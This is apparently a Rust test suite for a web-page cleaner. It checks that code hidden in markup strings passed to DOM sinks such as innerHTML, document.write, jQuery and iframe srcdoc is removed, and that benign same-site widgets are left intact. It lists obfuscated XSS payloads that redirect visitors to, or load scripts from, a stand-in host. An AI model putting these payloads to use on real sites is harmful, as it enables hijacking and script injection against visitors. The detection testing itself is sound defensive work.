//! Attack suite for code hidden in markup strings (issue 14, class 3; threats B3, B4):
//! markup a script hands to a parser runs code of its own, which the search for foreign
//! literals cannot see when it is split, escaped or encoded: the `<script>` of
//! `createContextualFragment` or `document.write`, `<img src=x onerror=…>` and `<svg
//! onload=…>` in `innerHTML`, `outerHTML`, `insertAdjacentHTML`, `DOMParser`, jQuery's
//! `.html()`/`.append()`/`$('<…>')`, an iframe's `srcdoc`, a `javascript:` link, and a
//! foreign load hidden behind character references. Each markup is written in every
//! quoting (single, double, split in two, a template literal, bound to a name) and given
//! to every sink, on a news page and an error page. The benign twins (a same-site
//! `createContextualFragment` widget, `innerHTML` with a same-site image and `onclick`
//! toggles, a list rendered with computed ids, a same-site `srcdoc`) keep their bytes with
//! no event.

use crate::common;

use common::rewrite::{clean, site};

use super::js_eval_entry_points::assert_removed_on_every_page;

/// Sinks: `@M` is the markup expression.
const SINKS: &[&str] = &[
    "document.body.appendChild(document.createRange().createContextualFragment(@M))",
    "var r=document.createRange();r.selectNode(document.body);document.body.append(r.createContextualFragment(@M))",
    "document.getElementById('box').innerHTML=@M",
    "document.body.innerHTML+=@M",
    "document.getElementById('box').outerHTML=@M",
    "document.body.insertAdjacentHTML('beforeend',@M)",
    "document.write(@M)",
    "var d=new DOMParser().parseFromString(@M,'text/html');document.body.appendChild(d.body.firstChild)",
    "$('#box').html(@M)",
    "jQuery('body').append(@M)",
    "$(@M).appendTo('body')",
    "var f=document.createElement('iframe');f.srcdoc=@M;document.body.appendChild(f)",
    "document.getElementById('fr').setAttribute('srcdoc',@M)",
];

/// Markup whose code leaves the site (the literal search sees no foreign URL in it).
const MARKUPS: &[&str] = &[
    r#"<script>top.location="/"+"/bet.example/"</script>"#,
    r#"<SCRIPT type="text/javascript">location.replace("htt"+"ps://bet.example/")</SCRIPT>"#,
    r#"<img src=x onerror="location='/'+'/bet.example/'">"#,
    r#"<img src="x" onerror="location=&quot;//bet.example/&quot;">"#,
    r#"<svg/onload=top.location=atob(&quot;Ly9iZXQuZXhhbXBsZS8=&quot;)>"#,
    r#"<body onload="location.href=String.fromCharCode(47,47,98,101,116,46,101,120,97,109,112,108,101,47)">"#,
    r#"<IMG SRC=x OnError=eval(atob('bG9jYXRpb249Ii8vYmV0LmV4YW1wbGUvIg=='))>"#,
    r#"<img src=x onerror="var s=document.createElement('script');s.src='/'+'/bet.example/x.js';document.head.appendChild(s)">"#,
    r#"<a id=go href="javascript:location='/'+'/bet.example/'">Tiếp</a>"#,
    r#"<a href="jav&#x61;script:top.location=%22/%22+%22/bet.example/%22">Tiếp</a>"#,
    r#"<iframe srcdoc="&lt;script&gt;top.location=&quot;/&quot;+&quot;/bet.example/&quot;&lt;/script&gt;"></iframe>"#,
    r#"<script src="&#x2F;&#x2F;bet.example/x.js"></script>"#,
    r#"<img src="&#104;ttps&#58;//bet.example/p.gif" width=1 height=1>"#,
    r#"<input autofocus onfocus="window['loc'+'ation']='//bet'+'.example/'">"#,
];

/// The page around a script: a news page or an error page.
/// `m` as JavaScript expressions: each quoting, split in two, a template, a name.
fn quoted(m: &str) -> Vec<(String, String)> {
    let single = format!("'{}'", m.replace('\\', "\\\\").replace('\'', "\\'"));
    let double = format!("\"{}\"", m.replace('\\', "\\\\").replace('"', "\\\""));
    let cut = m.char_indices().map(|(i, _)| i).nth(m.chars().count() / 2);
    let (a, b) = m.split_at(cut.unwrap_or(0));
    let esc = |s: &str| s.replace('\\', "\\\\").replace('\'', "\\'");
    let split = format!("'{}'+'{}'", esc(a), esc(b));
    let template = format!(
        "`{}`",
        m.replace('\\', "\\\\")
            .replace('`', "\\`")
            .replace("${", "\\${")
    );
    vec![
        (String::new(), single),
        (String::new(), double),
        (String::new(), split.clone()),
        (String::new(), template),
        (format!("var m={split};"), "m".into()),
    ]
}

fn attacks() -> Vec<String> {
    let mut all = Vec::new();
    for (k, m) in MARKUPS.iter().enumerate() {
        for (q, (setup, expr)) in quoted(m).into_iter().enumerate() {
            for (s, sink) in SINKS.iter().enumerate() {
                // Every sink meets every markup; the quotings take turns.
                if (k + s) % 5 == q || q == 0 {
                    all.push(format!("{setup}{}", sink.replace("@M", &expr)));
                }
            }
        }
    }
    all
}

#[test]
fn code_in_markup_strings_is_judged_and_removed() {
    // A `</script>` in the code is written `<\/script>`, as pages do.
    let all: Vec<String> = attacks().iter().map(|c| c.replace("</", "<\\/")).collect();
    assert_removed_on_every_page(&all, 25);
}

#[test]
fn same_site_widgets_in_markup_strings_keep_their_bytes() {
    let site = site("");
    for code in [
        "var f=document.createRange().createContextualFragment('<div class=\"w\"><span id=\"clock\"></span><script>document.getElementById(\"clock\").textContent=new Date().toLocaleDateString(\"vi-VN\")<\\/script></div>');document.getElementById('box').appendChild(f)",
        "document.getElementById('menu').innerHTML='<img src=\"/images/logo.png\" alt=\"Logo\"><button type=\"button\" onclick=\"this.parentNode.classList.toggle(\\'open\\')\">Menu</button>'",
        "document.getElementById('faq').innerHTML='<h3 onclick=\"var n=this.nextElementSibling;n.style.display=n.style.display==&quot;none&quot;?&quot;block&quot;:&quot;none&quot;\">Hỏi đáp</h3><div style=\"display:none\">Trả lời</div>'",
        "document.body.insertAdjacentHTML('beforeend','<a href=\"/tin-tuc\" onclick=\"return toggle(this)\">Tin tức</a> <a href=\"javascript:void(0)\" onclick=\"window.print()\">In</a>')",
        "var h='';for(var i=0;i<items.length;i++){h+='<li><a href=\"#\" onclick=\"show('+items[i].id+');return false\">'+items[i].title+'</a></li>'}document.getElementById('list').innerHTML=h",
        "$('#gallery').html('<img src=\"/uploads/anh-1.jpg\" onclick=\"zoom(this)\" alt=\"Ảnh\">')",
        "$('<div class=\"tip\" onmouseover=\"this.style.opacity=1\">Gợi ý</div>').appendTo('body')",
        "var f=document.createElement('iframe');f.srcdoc='<p>Xin chào</p><script>parent.postMessage(\"ok\",\"*\")<\\/script>';document.body.appendChild(f)",
        "document.write('<script src=\"/js/app.js\"><\\/script><a href=\"https://chinhphu.vn/\" onclick=\"track(this)\">Chính phủ</a>')",
        "document.getElementById('box').innerHTML='<a href=\"/lien-he\" onclick=\"location.href=this.href;return false\">Liên hệ</a><img src=\"data:image/gif;base64,R0lGODlhAQABAAAAACw=\" alt=\"\">'",
    ] {
        let page = format!("<div id=\"box\"></div><script>{code}</script><p>Hết</p>");
        let (out, events) = clean(&site, &page);
        assert_eq!(out, page, "changed: {events:?}");
        assert!(events.is_empty(), "{code}: {events:?}");
    }
}
